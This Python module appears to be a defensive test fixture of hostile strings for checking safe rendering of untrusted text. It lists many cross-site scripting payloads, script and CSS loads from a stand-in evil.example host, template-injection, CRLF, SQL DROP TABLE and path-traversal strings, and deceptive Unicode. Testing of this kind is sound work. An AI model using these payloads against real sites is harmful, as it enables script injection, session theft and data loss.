"""Texts that attack a page that shows them: each tries to set `window.ran`, or to mislead."""

from __future__ import annotations

from itertools import chain

RUN = "window.ran=1"
_EVENTS = (
    "onload onerror onclick onfocus onmouseover onanimationstart ontransitionend onbegin onend "
    "onpointerenter ontoggle onpageshow onhashchange onscroll onwheel onauxclick onbeforematch "
    "onbeforeinput oncontentvisibilityautostatechange onsecuritypolicyviolation"
).split()
_ELEMENTS = ("img src=x", "svg", "body", "details open", "input autofocus")
_SHAPES = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<ScRiPt src=//evil.example/x.js></sCrIpT><!-- {RUN}",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script><textarea>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"`><script>{RUN}</script>",
    f'" onfocus="{RUN}" autofocus x="',
    f"' onfocus='{RUN}' autofocus x='",
    f" onfocus={RUN} autofocus ",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//",
    f"java\nscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<a href='javascript:{RUN}'>open</a>",
    f"[open](javascript:{RUN})",
    f"![x](x){{onerror={RUN}}}",
    f"<form action='javascript:{RUN}'><button>go</button></form>",
    f"<button formaction='javascript:{RUN}'>go</button>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>*{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/)'>all</div>",
    "<plaintext>",
    "<xmp>",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate attributeName=href values='javascript:{RUN}'/></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={RUN}>'/></svg>",
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f"<x-card><script>{RUN}</script></x-card>",
    f"{{{{ ''.__class__.__mro__ }}}} {{% set x = 1 %}} {{{{ 7 * 7 }}}} {RUN}",
    f"${{{RUN}}} #{{{RUN}}} <%= {RUN} %>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"＜script＞{RUN}＜/script＞",
    f"\u202e>tpircs/<{RUN}>tpircs<\u202c",
    "\u2066right\u2069 \u202eleft to right\u202c",
    "zero\u200bwidth \u2060joined\ufeff \u00adsoft",
    "".join(chr(0xE0000 + ord(letter)) for letter in "hidden tags") + "seen",
    "\x1b]0;title\x07\x1b[2J\x9b31m",
    "pаypаl.com аpple.com",
    "Z̸̢̛̪̱a̵͇͌l̴̨̛g̷̦̅o̸̘͝" * 40,
    "\n" * 60 + "far below",
    "<" * 2_000,
    "x" * 5_000,
    "\r\nSet-Cookie: a=b\r\n\r\n<script>window.ran=1</script>",
    "'; DROP TABLE working_memory; --",
    "../../../../etc/passwd",
    "العربية <b>שלום</b> \u200f עברית",
]
HOSTILE = list(
    chain(
        _SHAPES,
        (f"<{element} {event}={RUN}>" for element in _ELEMENTS for event in _EVENTS),
        (f'"/><svg {event}="{RUN}" x="' for event in _EVENTS),
        (f"'/><a {event}='{RUN}' tabindex=0 x='" for event in _EVENTS),
    )
)
